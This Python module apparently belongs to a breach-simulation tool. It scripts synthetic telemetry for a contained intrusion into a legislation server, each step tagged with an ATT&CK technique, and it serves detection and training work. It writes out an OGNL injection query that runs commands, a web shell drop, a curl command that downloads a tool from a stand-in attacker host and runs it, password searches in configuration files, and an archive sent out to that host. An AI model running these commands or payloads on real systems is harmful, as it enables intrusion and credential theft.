"""The same group's habits in, a breach that was stopped within hours out: the counsel's server for legislation.

Its web application is exploited and a few files leave before an administrator sees it, cuts it off at the firewall and
stops it. The account it had found is tried on the file server and refused.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tocsin.rehearse.acts import linux, logons, network, web
from tocsin.rehearse.dice import Dice
from tocsin.rehearse.machine import Machine, Running
from tocsin.rehearse.scene import Scene
from tocsin.rehearse.stories.hold import MINUTE, agent
from tocsin.rehearse.stories.means import AGENT, Means, at_work, means, shell_line
from tocsin.rehearse.stories.profile import Profile
from tocsin.rehearse.stories.story import Story, working_day

_TARGET: Final = "/search/status.jsp"
_SPOOL: Final = "/var/tmp"  # noqa: S108 - theirs, not ours
_TOOL: Final = f"{_SPOOL}/.cache-update"


def tell(scene: Scene, profile: Profile, seed: int) -> tuple[Story, Iterator[int]]:
    body = scene.world.body("lc")
    story = Story(
        id="incident-2",
        campaign="campaign-1",
        kind="breach",
        title=f"Breach of the {body.title}'s legislation server, contained within hours",
        body=body,
        dice=Dice(seed, "contained"),
        profile=profile,
    )
    return story, _acts(scene, story, profile, seed)


def _acts(scene: Scene, story: Story, profile: Profile, seed: int) -> Iterator[int]:
    dice, body = story.dice, story.body
    day = working_day(scene, 0.45 + dice.random() * 0.2)
    machine = scene.machine(body.one("web"))
    # The same means as at the other body: what ties the two together.
    shared = means(scene.world, profile, Dice(seed, "breach"))
    relays = (shared.relays[-1], *means(scene.world, profile, dice).relays[1:])
    own = Means(relays=relays, home=shared.home[-1:])
    story.addresses.update(own.relays)
    yield (now := min(at_work(profile, day, dice), day + 16 * 60 * MINUTE))
    app = linux.service(machine, "tomcat", "/usr/lib/jvm/java-17/bin/java")
    _enters(scene, story, own, machine, app, now)
    yield (now := now + 14 * MINUTE)
    tool = _settles(scene, story, own, machine, app, now)
    yield (now := now + 55 * MINUTE)
    _takes(scene, story, own, machine, tool, now)
    yield (now := now + 40 * MINUTE)
    _tries_inside(scene, story, machine, tool, now)
    yield (now := now + (60 + dice.below(90)) * MINUTE)
    _is_cut_off(scene, story, own, machine, now)


def _post(
    scene: Scene, story: Story, own: Means, machine: Machine, ts_us: int, target: str, sent: int, received: int
) -> None:
    request = web.Request(method="POST", target=target, sent=sent, received=received, took_ms=story.dice.size(300, 0.5))
    web.visit(scene, ts_us, story.dice.one(own.relays), machine.host, [request], agent=agent(story.dice))


def _enters(scene: Scene, story: Story, own: Means, machine: Machine, app: Running, ts_us: int) -> None:
    with story.step(
        scene, ts_us, "T1190", "A crafted search runs a command in the application", host=machine.host, account="tomcat"
    ):
        target = "/search?q=%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D"
        request = web.Request(target=target, received=412, status=500, took_ms=180)
        web.visit(scene, ts_us, own.relays[0], machine.host, [request], agent=agent(story.dice))
        shell_line(scene, machine, ts_us + 150_000, app, "id", "/srv/legis")
    at = ts_us + 2 * MINUTE
    for technique, line in (
        ("T1033", "whoami"),
        ("T1082", "uname -a"),
        ("T1016", "ip addr"),
        ("T1057", "ps auxww"),
        ("T1049", "ss -antp"),
    ):
        if story.profile and story.profile.does(technique):
            with story.step(
                scene, at, technique, f"From the application's account: {line}", host=machine.host, account="tomcat"
            ):
                _post(scene, story, own, machine, at, "/search", 640, story.dice.size(1800, 0.8))
                shell_line(scene, machine, at + 200_000, app, line, "/srv/legis")
        at += 30_000_000 + story.dice.below(60_000_000)


def _settles(scene: Scene, story: Story, own: Means, machine: Machine, app: Running, ts_us: int) -> Running:
    """A web shell, and a program of theirs."""
    profile, site = story.profile, own.home[0]
    assert profile
    if profile.does("T1505.003"):
        with story.step(
            scene,
            ts_us,
            "T1505.003",
            "A web shell is written beside the search page",
            host=machine.host,
            account="tomcat",
        ):
            _post(scene, story, own, machine, ts_us, "/search", 2900, 300)
            shell_line(
                scene,
                machine,
                ts_us + 200_000,
                app,
                "cp /var/tmp/u.txt /srv/legis/webapps/search/status.jsp",
                "/srv/legis",
            )
            _post(scene, story, own, machine, ts_us + 40_000_000, _TARGET, 90, 60)
    at = ts_us + 3 * MINUTE
    with story.step(
        scene, at, "T1105 T1059.004", "A program of theirs is fetched and started", host=machine.host, account="tomcat"
    ):
        _post(scene, story, own, machine, at, _TARGET, 260, 70)
        shell_line(scene, machine, at + 200_000, app, f"curl -k -s -o {_TOOL} https://{site.name}/u/x64", "/srv/legis")
        _speaks(scene, story, machine, own, at + 260_000, received=1_120_300)
        shell_line(scene, machine, at + 9_000_000, app, f"chmod 755 {_TOOL}", "/srv/legis")
        return linux.run(scene, machine, at + 12_000_000, _TOOL, f"{_TOOL} -d", app, folder=_SPOOL)


def _speaks(
    scene: Scene, story: Story, machine: Machine, own: Means, ts_us: int, *, sent: int = 0, received: int = 0
) -> None:
    dice, site = story.dice, own.home[0]
    request = web.Request(
        method="POST" if sent else "GET",
        target="/u/" + dice.hexes(10),
        sent=sent or dice.size(600, 0.5),
        received=received or dice.size(1300, 0.8),
    )
    web.fetch(scene, ts_us, machine.host, site, [request], agent=AGENT, resolve=dice.chance(0.5), lasts_s=sent / 2e6)
    story.addresses.add(site.address)
    story.domains.add(site.name)


def _takes(scene: Scene, story: Story, own: Means, machine: Machine, tool: Running, ts_us: int) -> None:
    """Configurations are read and leave: technical, but with a password among them."""
    profile = story.profile
    assert profile
    with story.step(
        scene,
        ts_us - 20 * MINUTE,
        "T1071.001",
        "Their program calls home over HTTPS",
        host=machine.host,
        account="tomcat",
        again="calls",
    ):
        for number in range(5):
            _speaks(scene, story, machine, own, ts_us + (number * 6 - 20) * MINUTE)
    if profile.does("T1552.001"):
        with story.step(
            scene, ts_us, "T1552.001", "Passwords are looked for in configurations", host=machine.host, account="tomcat"
        ):
            shell_line(scene, machine, ts_us, tool, "grep -rn password /srv/legis/conf", _SPOOL)
            shell_line(scene, machine, ts_us + 30_000_000, tool, "cat /srv/legis/conf/database.properties", _SPOOL)
    at = ts_us + 8 * MINUTE
    if profile.does("T1560.001 T1041"):
        size = 1_900_000 + story.dice.below(900_000)
        with story.step(scene, at, "T1560.001", "Configurations are packed", host=machine.host, account="tomcat"):
            shell_line(scene, machine, at, tool, "tar -czf /var/tmp/.c.tgz /srv/legis/conf /etc/nginx", _SPOOL)
        with story.step(
            scene, at + MINUTE, "T1041", "The archive leaves for their server", host=machine.host, account="tomcat"
        ):
            _speaks(scene, story, machine, own, at + MINUTE, sent=size)
        story.staged += size
        story.takes("technical", size)


def _tries_inside(scene: Scene, story: Story, machine: Machine, tool: Running, ts_us: int) -> None:
    """The password that was found is tried inside, and refused."""
    body = story.body
    account = f"{body.netbios}\\svc-legis"
    files = scene.machine(body.one("file"))
    with story.step(
        scene,
        ts_us,
        "T1078.002 T1021.002",
        "A password that was found is tried on the file server and refused",
        host=files.host,
        account=account,
    ):
        shell_line(scene, machine, ts_us, tool, f"smbclient -L //{files.host.address} -U svc-legis", _SPOOL)
        for number in range(4):
            at = ts_us + 1_000_000 + number * 7_000_000
            link = network.connect(
                scene,
                at,
                machine.host,
                files.host,
                445,
                sent=1200,
                received=900,
                lasts_s=0.4,
                service="gssapi,smb,ntlm",
            )
            logons.failed(scene, files, at + 200_000, account, 3, source=machine.host, port=link.sport)


def _is_cut_off(scene: Scene, story: Story, own: Means, machine: Machine, ts_us: int) -> None:
    """An administrator stops it; what their program still sends is dropped."""
    admin = story.body.staff("admin")[0]
    session = linux.ssh(scene, machine, ts_us, admin.user, scene.station(admin).host, lasts_s=1800)
    shell = linux.shell(machine, session)
    for number, line in enumerate(
        (
            "/usr/bin/ss -antp",
            "/usr/bin/ps -ef --forest",
            f"/usr/bin/sha256sum {_TOOL}",
            f"/usr/bin/pkill -f {_TOOL}",
            "/usr/bin/systemctl stop tomcat10",
        )
    ):
        linux.sudo(scene, machine, ts_us + (60 + number * 80) * 1_000_000, shell, line)
    with story.step(
        scene, ts_us + MINUTE, "T1071.001", "Their program calls home over HTTPS", host=machine.host, again="calls"
    ):
        for number in range(6):
            network.connect(
                scene,
                ts_us + (2 + number) * MINUTE // 2,
                machine.host,
                own.home[0].address,
                443,
                sent=0,
                received=0,
                lasts_s=0,
                state="S0",
            )
    story.contained_us = ts_us + 7 * MINUTE
